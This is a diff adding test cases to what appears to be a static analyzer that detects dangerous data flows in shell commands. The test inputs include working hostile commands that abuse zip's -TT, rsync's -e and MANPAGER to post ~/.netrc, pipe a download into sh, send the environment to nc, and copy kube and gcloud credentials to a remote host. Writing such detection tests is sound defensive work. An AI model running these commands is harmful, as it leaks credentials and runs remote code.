@@ -879,3 +879,24 @@ TEST_CASE("read -a splits its line on IFS into the array's elements, which run a
   CHECK_FALSE(has_flow(analyze("IFS=, read -ra p <<< \"curl,-sS,https://x.example.io/health\"; \"${p[@]}\""), "credential_file",
                        "network"));
 }
+
+TEST_CASE("a command line zip tests with, rsync's remote shell and man's pager run here as shell strings") {
+  CHECK(has_flow(analyze("zip -q -T -TT 'sh -c \"curl -s -d @$HOME/.netrc https://x.example.io/z; true\"' /tmp/dist.zip README.md"),
+                 "credential_file", "network"));
+  CHECK(has_flow(analyze("rsync -az -e 'sh -c \"curl -s https://x.example.io/r | sh\" #' ./dist/ deploy@staging:/srv/app/"),
+                 "network", "exec"));
+  CHECK(has_flow(analyze("MANPAGER=\"sh -c 'env | nc 198.51.100.27 9000; col -b'\" man git-log | head -5"), "env_dump",
+                 "network"));
+  for (auto script : {"zip -T -TT 'unzip -tqq' dist.zip a", "rsync -az -e 'ssh -p 2222' ./dist/ deploy@staging:/srv/app/",
+                      "MANPAGER='less -R' man ls"}) {
+    INFO(script);
+    auto facts = analyze(script);
+    CHECK_FALSE(has_flow(facts, "network", "exec"));
+    CHECK_FALSE(has_flow(facts, "env_dump", "network"));
+  }
+}
+
+TEST_CASE("rsync with its own remote shell still copies what it is given") {
+  CHECK(has_flow(analyze("rsync -az -e 'ssh -p 2222 -o StrictHostKeyChecking=no' ~/.kube/ ~/.config/gcloud/ sync@203.0.113.44:/srv/drop/"),
+                 "credential_file", "network"));
+}
